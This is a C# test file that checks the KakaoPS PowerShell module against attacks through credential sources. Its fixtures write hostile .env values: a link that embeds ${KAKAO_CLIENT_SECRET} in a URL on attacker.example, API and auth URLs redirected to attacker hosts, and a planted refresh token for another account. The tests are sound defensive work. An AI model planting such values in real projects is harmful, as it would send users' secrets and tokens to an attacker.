using System;
using System.IO;
using System.Linq;
using System.Text.Json;
using System.Threading.Tasks;
using KakaoPS.Models;
using KakaoPS.Tests.Cmdlets;
using KakaoPS.Tests.Infrastructure;
using static KakaoPS.Tests.Infrastructure.Network;

namespace KakaoPS.Tests.Attacks;

/// <summary>
/// Where credentials come from, tried as an attacker would: a cloned repository whose .env the
/// user never read, a variable set by someone else, a typo in an endpoint, Kakao echoing a secret.
/// Each test is a user working in such a folder.
/// </summary>
[Collection(CmdletCollection.Name)]
public sealed class CredentialSourceAttackTests : RecordedCmdletTest
{
    private const long Victim = KakaoPS.Emulator.EmulatorDefaults.UserId;
    private const long Attacker = 4242424242;

    public CredentialSourceAttackTests(CmdletEnvironment environment) : base(environment)
    {
    }

    private string DotEnv => Folder.File(".env");

    [Fact]
    public async Task A_dotenv_cannot_pull_the_client_secret_into_a_message_link()
    {
        await ConnectAsync();
        const string secret = "client-secret-from-the-environment";
        File.WriteAllText(DotEnv, "KAKAOPS_DEFAULT_WEB_URL=https://attacker.example/?s=${KAKAO_CLIENT_SECRET}\n");

        var result = Run("$env:KAKAO_CLIENT_SECRET = $args[0]; try { Send-KakaoMemo -Text 'build done' -WhatIf *>&1 | Out-String; Send-KakaoMemo -Text 'build done' } finally { $env:KAKAO_CLIENT_SECRET = $null }", secret);

        Assert.DoesNotContain(result.Transcript(), line => line.Contains(secret));
        Assert.DoesNotContain(secret, string.Join("\n", await Control.TemplateObjectsAsync()));
        Assert.Contains("https://attacker.example/?s=${KAKAO_CLIENT_SECRET}", (await Control.TemplateObjectsAsync()).Single());
    }

    [Fact]
    public async Task A_refresh_token_in_a_cloned_dotenv_does_not_log_the_user_into_another_account()
    {
        await ConnectAsync();
        var before = File.ReadAllBytes(Folder.TokenPath);
        var planted = (await Control.IssueTokensAsync(userId: Attacker)).GetProperty("refresh_token").GetString()!;
        File.WriteAllText(DotEnv, $"KAKAO_REST_API_KEY={Key}\nKAKAO_REFRESH_TOKEN={planted}\n");

        var result = Run("Connect-Kakao");

        var error = Assert.Single(result.Errors);
        Assert.StartsWith("LoginForAnotherUser,", error.FullyQualifiedErrorId);
        Assert.Contains(Victim.ToString(), error.ToString());
        Assert.Contains(Attacker.ToString(), error.ToString());
        Assert.Contains("-Force", error.ErrorDetails.RecommendedAction);
        Assert.Contains(result.Warnings, w => w.Contains("KAKAO_REFRESH_TOKEN") && w.Contains(DotEnv));
        Assert.Empty(result.Output);
        Assert.Equal(before, File.ReadAllBytes(Folder.TokenPath));

        Run("Send-KakaoMemo -Text 'nightly build log'").Succeeded();
        Assert.Equal(Victim, (await Control.MessagesAsync()).Single().GetProperty("userId").GetInt64());
    }

    [Fact]
    public async Task Force_replaces_a_login_for_another_user_on_purpose()
    {
        await ConnectAsync();
        var other = (await Control.IssueTokensAsync(userId: Attacker)).GetProperty("refresh_token").GetString()!;

        var context = Run("Connect-Kakao -RefreshToken $args[0] -RestApiKey $args[1] -Force", other, Key).Succeeded().Single<KakaoContext>();

        Assert.Equal(Attacker, context.UserId);
        Assert.Equal(Attacker, JsonDocument.Parse(File.ReadAllText(Folder.TokenPath)).RootElement.GetProperty("user_id").GetInt64());
    }

    [Fact]
    public async Task A_new_login_whose_user_Kakao_does_not_name_does_not_replace_a_known_one()
    {
        await ConnectAsync();
        var before = File.ReadAllBytes(Folder.TokenPath);
        var other = (await Control.IssueTokensAsync(userId: Attacker)).GetProperty("refresh_token").GetString()!;
        await Control.AddFaultAsync(new { path = "/v1/user/access_token_info", status = 400, body = "not json" });

        var error = Assert.Single(Run("Connect-Kakao -RefreshToken $args[0] -RestApiKey $args[1]", other, Key).Errors);

        Assert.StartsWith("LoginForAnotherUser,", error.FullyQualifiedErrorId);
        Assert.Contains("(unknown)", error.ToString());
        Assert.Equal(before, File.ReadAllBytes(Folder.TokenPath));
    }

    [Fact]
    public async Task A_login_for_another_app_does_not_replace_the_saved_one_silently()
    {
        await ConnectAsync();
        const string plantedKey = "attacker-app-key";
        await Control.ConfigureAppAsync(plantedKey, new { redirectUris = new[] { "http://127.0.0.1" } });
        var planted = (await Control.IssueTokensAsync(clientId: plantedKey)).GetProperty("refresh_token").GetString()!;
        File.WriteAllText(DotEnv, $"KAKAO_REST_API_KEY={plantedKey}\nKAKAO_REFRESH_TOKEN={planted}\n");

        var error = Assert.Single(Run("Connect-Kakao").Errors);

        Assert.StartsWith("LoginForAnotherUser,", error.FullyQualifiedErrorId);
        Assert.Contains(plantedKey, error.ToString());
        Assert.Contains(Key, error.ToString());
    }

    [Theory]
    [InlineData(0, Attacker)] // Yes
    [InlineData(1, Victim)]   // No
    public async Task In_an_interactive_session_the_user_is_asked_and_the_answer_counts(int choice, long expectedUser)
    {
        await ConnectAsync();
        var other = (await Control.IssueTokensAsync(userId: Attacker)).GetProperty("refresh_token").GetString()!;
        var host = new AnsweringHost(choice);
        var state = System.Management.Automation.Runspaces.InitialSessionState.CreateDefault2();
        state.ImportPSModule(Path.Combine(AppContext.BaseDirectory, "KakaoPS.psd1"));
        using var runspace = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace(host, state);
        runspace.Open();
        using var shell = System.Management.Automation.PowerShell.Create();
        shell.Runspace = runspace;
        shell.AddScript("Set-Location -LiteralPath $args[0]; Connect-Kakao -RefreshToken $args[1] -RestApiKey $args[2]").AddArgument(Folder.Path).AddArgument(other).AddArgument(Key);

        shell.Invoke();

        var question = Assert.Single(host.Questions);
        Assert.Contains(Victim.ToString(), question);
        Assert.Contains(Attacker.ToString(), question);
        Assert.Equal(1, Assert.Single(host.DefaultChoices)); // Enter alone keeps the saved login
        Assert.Equal(expectedUser, JsonDocument.Parse(File.ReadAllText(Folder.TokenPath)).RootElement.GetProperty("user_id").GetInt64());
        Assert.Equal(choice == 1, shell.Streams.Error.Any(e => e.FullyQualifiedErrorId.StartsWith("LoginForAnotherUser,")));
        if (choice == 1)
        {
            // The answer was No: the advice speaks of that, not of -Force or an interactive session, nor of a warning never shown.
            var action = shell.Streams.Error.Single().ErrorDetails.RecommendedAction;
            Assert.DoesNotContain("-Force", action);
            Assert.DoesNotContain("interactive", action);
            Assert.DoesNotContain("warning", action);
        }
    }

    [Fact]
    public async Task Logging_in_again_as_the_same_user_asks_nothing()
    {
        await ConnectAsync();
        var again = (await Control.IssueTokensAsync()).GetProperty("refresh_token").GetString()!;

        var context = Run("Connect-Kakao -RefreshToken $args[0] -RestApiKey $args[1]", again, Key).Succeeded().Single<KakaoContext>();

        Assert.Equal(Victim, context.UserId);
    }

    [Fact]
    public async Task A_code_taken_from_dotenv_is_announced_with_its_file()
    {
        File.WriteAllText(DotEnv, $"REST_API_KEY = {Key}\nAUTHORIZATION_CODE = {await Control.NewCodeAsync(Key)}\n");

        var result = Run("Connect-Kakao").Succeeded();

        Assert.Contains(result.Warnings, w => w.Contains("AUTHORIZATION_CODE") && w.Contains(DotEnv));
    }

    [Fact]
    public async Task A_stale_code_left_in_dotenv_is_reported_and_the_browser_login_still_starts()
    {
        var code = await Control.NewCodeAsync(Key);
        File.WriteAllText(DotEnv, $"REST_API_KEY = {Key}\nAUTHORIZATION_CODE = {code}\n");
        Run("Connect-Kakao").Succeeded();
        File.Delete(Folder.TokenPath);

        var result = Run("$env:BROWSER = 'true'; try { Connect-Kakao -RedirectUri $args[0] -TimeoutSec 1 } finally { $env:BROWSER = $null }",
            $"http://127.0.0.1:{FreePort()}/callback");

        Assert.Contains(result.Warnings, w => w.Contains("AUTHORIZATION_CODE") && w.Contains(DotEnv) && w.Contains("KOE320"));
        Assert.StartsWith("LoginTimedOut,", Assert.Single(result.Errors).FullyQualifiedErrorId);
        Assert.DoesNotContain(result.Transcript(), line => line.Contains(code));
    }

    [Fact]
    public void A_refused_refresh_token_from_the_environment_names_the_variable_and_how_to_skip_it()
    {
        var result = Run("$env:KAKAO_REFRESH_TOKEN = 'stale-refresh-token-from-ci'; try { Connect-Kakao -RestApiKey $args[0] } finally { $env:KAKAO_REFRESH_TOKEN = $null }", Key);

        var error = Assert.Single(result.Errors);
        Assert.StartsWith("KOE322,", error.FullyQualifiedErrorId);
        Assert.Contains("$env:KAKAO_REFRESH_TOKEN", error.ToString());
        Assert.Contains("Remove-Item Env:KAKAO_REFRESH_TOKEN", error.ErrorDetails.RecommendedAction);
        Assert.DoesNotContain("just run Connect-Kakao", error.ErrorDetails.RecommendedAction);
        Assert.Contains(result.Warnings, w => w.Contains("$env:KAKAO_REFRESH_TOKEN"));
        Assert.DoesNotContain(result.Transcript(), line => line.Contains("stale-refresh-token-from-ci"));
    }

    [Fact]
    public void A_refused_refresh_token_from_dotenv_names_the_file()
    {
        File.WriteAllText(DotEnv, $"KAKAO_REST_API_KEY={Key}\nKAKAO_REFRESH_TOKEN=stale-refresh-token-in-dotenv\n");

        var error = Assert.Single(Run("Connect-Kakao").Errors);

        Assert.StartsWith("KOE322,", error.FullyQualifiedErrorId);
        Assert.Contains("KAKAO_REFRESH_TOKEN in " + DotEnv, error.ToString());
        Assert.Contains(DotEnv, error.ErrorDetails.RecommendedAction);
        Assert.DoesNotContain("just run Connect-Kakao", error.ErrorDetails.RecommendedAction);
    }

    [Theory]
    [InlineData("KAKAOPS_API_URL")]
    [InlineData("KAKAOPS_AUTH_URL")]
    public async Task Plain_http_to_a_remote_host_is_refused_before_any_request(string variable)
    {
        var original = Environment.GetEnvironmentVariable(variable);
        Environment.SetEnvironmentVariable(variable, "http://kakao.example.invalid");
        try
        {
            foreach (var script in new[] { "Connect-Kakao -RefreshToken x -RestApiKey $args[0]", "Get-KakaoAuthUrl -RestApiKey $args[0]" })
            {
                var error = Assert.Single(Run(script, Key).Errors);
                Assert.StartsWith("InsecureEndpoint,", error.FullyQualifiedErrorId);
                Assert.Contains(variable, error.ToString());
                Assert.Contains("https://", error.ErrorDetails.RecommendedAction);
            }
        }
        finally
        {
            Environment.SetEnvironmentVariable(variable, original);
        }

        Assert.Empty(await Control.RequestsAsync());
    }

    [Fact]
    public async Task A_dotenv_cannot_send_the_tokens_to_another_server()
    {
        await ConnectAsync();
        File.WriteAllText(DotEnv, "KAKAOPS_API_URL=https://kapi.attacker.example\nKAKAOPS_AUTH_URL=https://kauth.attacker.example\nKAKAOPS_TOKEN_PATH=./stolen.json\n");

        var result = Run("'hi' | Send-KakaoMemo; Get-KakaoContext").Succeeded();

        Assert.Equal(Emulator.BaseUrl, result.Output.OfType<KakaoContext>().Single().ApiUrl);
        Assert.Single(await Control.MessagesAsync());
        Assert.False(File.Exists(Folder.File("stolen.json")));
    }

    [Fact]
    public async Task A_cloned_folder_whose_dotenv_the_parser_cannot_read_does_not_stop_sending()
    {
        await ConnectAsync();
        File.WriteAllText(DotEnv, "APP_SETTINGS={\"a\":1}\nAPP_NAME=\"unclosed\nOTHER=1\n");

        var result = Run("'build finished' | Send-KakaoMemo").Succeeded();

        Assert.True(result.Single<KakaoMemoResult>().Success);
        Assert.Equal(2, result.Warnings.Count);
        Assert.All(result.Warnings, warning => Assert.Contains(DotEnv, warning));
        Assert.Contains("line 1", result.Warnings[0]);
        Assert.Contains("line 2", result.Warnings[1]);
    }

    [Fact]
    public async Task A_dotenv_linked_to_dev_zero_does_not_break_the_folder()
    {
        if (OperatingSystem.IsWindows())
        {
            return;
        }

        await ConnectAsync();
        File.CreateSymbolicLink(DotEnv, "/dev/zero");

        var result = Run("Get-KakaoContext; 'hi' | Send-KakaoMemo").Succeeded();

        Assert.Equal(2, result.Output.Count);
        Assert.Contains(result.Warnings, w => w.Contains(DotEnv));
    }

    [Fact]
    public async Task A_dotenv_is_not_read_by_a_command_that_needs_nothing_from_it()
    {
        await ConnectAsync();
        File.WriteAllText(DotEnv, "APP_NAME=\"unclosed\n");

        var result = Run("Get-KakaoContext; 'hi' | Send-KakaoMemo -WebUrl https://example.com").Succeeded();

        Assert.Empty(result.Warnings);
    }

    [Fact]
    public async Task Secrets_that_Kakao_echoes_in_an_error_are_not_shown()
    {
        await ConnectAsync();
        const string echoed = "refresh_token=ECHOED-REFRESH client_secret=ECHOED-SECRET code_verifier=ECHOED-VERIFIER code=ECHOED-CODE access_token=ECHOED-ACCESS";
        await Control.AddFaultAsync(new
        {
            path = "/oauth/token",
            status = 400,
            body = JsonSerializer.Serialize(new { error = "invalid_grant", error_description = "bad request: " + echoed, error_code = "KOE999" }),
        });

        var result = Run("Connect-Kakao -RefreshToken x -RestApiKey $args[0]", Key);

        var error = Assert.Single(result.Errors);
        Assert.StartsWith("KOE999,", error.FullyQualifiedErrorId);
        Assert.DoesNotContain(result.Transcript(), line => line.Contains("ECHOED-"));
        Assert.Contains("refresh_token=…", error.ToString());
    }
}

/// <summary>A host whose user answers every choice with the same option, noting each question.</summary>
internal sealed class AnsweringHost : System.Management.Automation.Host.PSHost
{
    private readonly AnsweringUI _ui;

    public AnsweringHost(int answer) => _ui = new AnsweringUI(answer);

    public System.Collections.Generic.List<string> Questions => _ui.Questions;

    public System.Collections.Generic.List<int> DefaultChoices => _ui.DefaultChoices;

    public override string Name => "AnsweringHost";
    public override Version Version => new(1, 0);
    public override Guid InstanceId { get; } = Guid.NewGuid();
    public override System.Management.Automation.Host.PSHostUserInterface UI => _ui;
    public override System.Globalization.CultureInfo CurrentCulture => System.Globalization.CultureInfo.CurrentCulture;
    public override System.Globalization.CultureInfo CurrentUICulture => System.Globalization.CultureInfo.CurrentUICulture;
    public override void SetShouldExit(int exitCode) { }
    public override void EnterNestedPrompt() => throw new NotSupportedException();
    public override void ExitNestedPrompt() => throw new NotSupportedException();
    public override void NotifyBeginApplication() { }
    public override void NotifyEndApplication() { }

    private sealed class AnsweringUI(int answer) : System.Management.Automation.Host.PSHostUserInterface
    {
        public System.Collections.Generic.List<string> Questions { get; } = new();

        public System.Collections.Generic.List<int> DefaultChoices { get; } = new();

        public override int PromptForChoice(string caption, string message, System.Collections.ObjectModel.Collection<System.Management.Automation.Host.ChoiceDescription> choices, int defaultChoice)
        {
            Questions.Add(caption + " " + message);
            DefaultChoices.Add(defaultChoice);
            return answer;
        }

        public override System.Management.Automation.Host.PSHostRawUserInterface RawUI => null!;
        public override string ReadLine() => string.Empty;
        public override System.Security.SecureString ReadLineAsSecureString() => new();
        public override void Write(string value) { }
        public override void Write(ConsoleColor foregroundColor, ConsoleColor backgroundColor, string value) { }
        public override void WriteLine(string value) { }
        public override void WriteErrorLine(string value) { }
        public override void WriteDebugLine(string message) { }
        public override void WriteProgress(long sourceId, System.Management.Automation.ProgressRecord record) { }
        public override void WriteVerboseLine(string message) { }
        public override void WriteWarningLine(string message) { }
        public override System.Collections.Generic.Dictionary<string, System.Management.Automation.PSObject> Prompt(string caption, string message, System.Collections.ObjectModel.Collection<System.Management.Automation.Host.FieldDescription> descriptions) => new();
        public override System.Management.Automation.PSCredential PromptForCredential(string caption, string message, string userName, string targetName) => throw new NotSupportedException();
        public override System.Management.Automation.PSCredential PromptForCredential(string caption, string message, string userName, string targetName,
            System.Management.Automation.PSCredentialTypes allowedCredentialTypes, System.Management.Automation.PSCredentialUIOptions options) => throw new NotSupportedException();
    }
}

/// <summary>The rules behind the attacks above, checked directly.</summary>
public sealed class CredentialSourceRuleTests
{
    [Theory]
    [InlineData("http://127.0.0.1:8300")]
    [InlineData("http://127.8.9.10")]
    [InlineData("http://[::1]:8300")]
    [InlineData("http://localhost:8300")]
    [InlineData("http://LOCALHOST")]
    [InlineData("https://kapi.kakao.com")]
    [InlineData("https://kakao.example.com")]
    public void Loopback_http_and_any_https_are_accepted(string url)
    {
        var endpoints = new KakaoPS.Http.KakaoEndpoints(url, url);

        Assert.StartsWith(url.TrimEnd('/').ToLowerInvariant().Substring(0, 8), endpoints.Api("/v2/user/me").AbsoluteUri.ToLowerInvariant());
        Assert.StartsWith(url.ToLowerInvariant().Substring(0, 8), endpoints.Auth("/oauth/token").AbsoluteUri.ToLowerInvariant());
    }

    [Theory]
    [InlineData("http://kapi.kakao.com")]
    [InlineData("http://10.0.0.5:8300")]
    [InlineData("http://127.0.0.1.attacker.example")]
    [InlineData("http://localhost.attacker.example")]
    [InlineData("http://[::ffff:10.0.0.1]")]
    [InlineData("http://0.0.0.0:8300")]
    public void Plain_http_to_anything_else_is_refused_with_the_variable_named(string url)
    {
        var endpoints = new KakaoPS.Http.KakaoEndpoints("https://kauth.kakao.com", url);

        var error = Assert.Throws<KakaoPS.Errors.KakaoException>(() => endpoints.Api("/v2/user/me"));

        Assert.Equal("InsecureEndpoint", error.ErrorId);
        Assert.Contains("KAKAOPS_API_URL", error.Message);
        Assert.NotNull(endpoints.Auth("/oauth/token"));
    }

    [Fact]
    public void The_loopback_result_page_and_the_error_show_no_echoed_secret()
    {
        var response = KakaoPS.Login.AuthorizationResponse.FromUrl(
            "http://127.0.0.1:8400/callback?error=invalid_request&error_description=" +
            Uri.EscapeDataString("bad refresh_token=R1 id_token=I1 client_secret=S1 code_verifier=V1 code=C1 access_token=A1") + "&state=s");

        var error = Assert.Throws<KakaoPS.Errors.KakaoException>(response.ThrowIfError);

        foreach (var secret in new[] { "R1", "I1", "S1", "V1", "C1", "A1" })
        {
            Assert.DoesNotContain(secret, error.Message);
        }

        Assert.Contains("client_secret=…", error.Message);
    }
}
